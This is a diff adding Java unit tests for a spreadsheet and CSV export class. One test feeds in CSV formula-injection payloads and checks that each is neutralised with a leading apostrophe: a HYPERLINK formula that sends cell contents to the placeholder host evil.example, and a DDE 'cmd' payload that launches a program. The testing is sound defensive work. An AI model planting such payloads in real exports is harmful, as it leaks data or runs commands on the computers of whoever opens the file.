@@ -39,4 +39,43 @@ class TableExportTest {
             assertEquals(14.0, sheet.getRow(1).getCell(2).getNumericCellValue());
         }
     }
+
+    @Test
+    void csvCellsThatASpreadsheetWouldRunAsFormulasAreShownAsText() {
+        List<String> planted = List.of("=HYPERLINK(\"http://evil.example/?\"&A2&B2,\"Fjordby\")", "=1+1",
+                "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\tTab", "\rReturn", "\nLine");
+        TableExport hostile = new TableExport("Hold", List.of("=Overskrift", "Antal", "Dato"),
+                planted.stream().map(value -> List.<Object>of(value, -3, LocalDate.of(2027, 1, 12))).toList());
+        List<String> lines = lines(hostile.csv());
+        assertEquals("'=Overskrift;Antal;Dato", lines.get(0), "a header is a cell too");
+        for (int i = 0; i < planted.size(); i++) {
+            String cell = "'" + planted.get(i);
+            String quoted = cell.matches("(?s).*[;\"\r\n].*") ? "\"" + cell.replace("\"", "\"\"") + "\"" : cell;
+            assertTrue(String.join("\r\n", lines).contains(quoted + ";-3;2027-01-12"),
+                    () -> "neutralised and kept whole: " + quoted);
+        }
+    }
+
+    @Test
+    void ordinaryTextsNumbersAndDatesAreWrittenAsTheyAre() {
+        TableExport plain = new TableExport("Hold", List.of("Navn", "Antal"),
+                List.of(List.of("Anne-Mette", -3), List.of("Hold A - forår", 0.5)));
+        assertEquals(List.of("Navn;Antal", "Anne-Mette;-3", "Hold A - forår;0.5"), lines(plain.csv()));
+    }
+
+    @Test
+    void aCohortNameWithCharactersAWorkbookRefusesStillGivesASheet() throws Exception {
+        TableExport slashed = new TableExport("Hold A/B: forår [2027]?*\\ med et meget langt navn",
+                List.of("Kursist"), List.of(List.of("Søren")));
+        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(slashed.xlsx()))) {
+            String name = workbook.getSheetName(0);
+            assertTrue(name.startsWith("Hold A-B- forår -2027"), name);
+            assertTrue(name.length() <= 31, name);
+            assertEquals("Søren", workbook.getSheetAt(0).getRow(1).getCell(0).getStringCellValue());
+        }
+    }
+
+    private static List<String> lines(byte[] csv) {
+        return List.of(new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8).split("\r\n(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)"));
+    }
 }
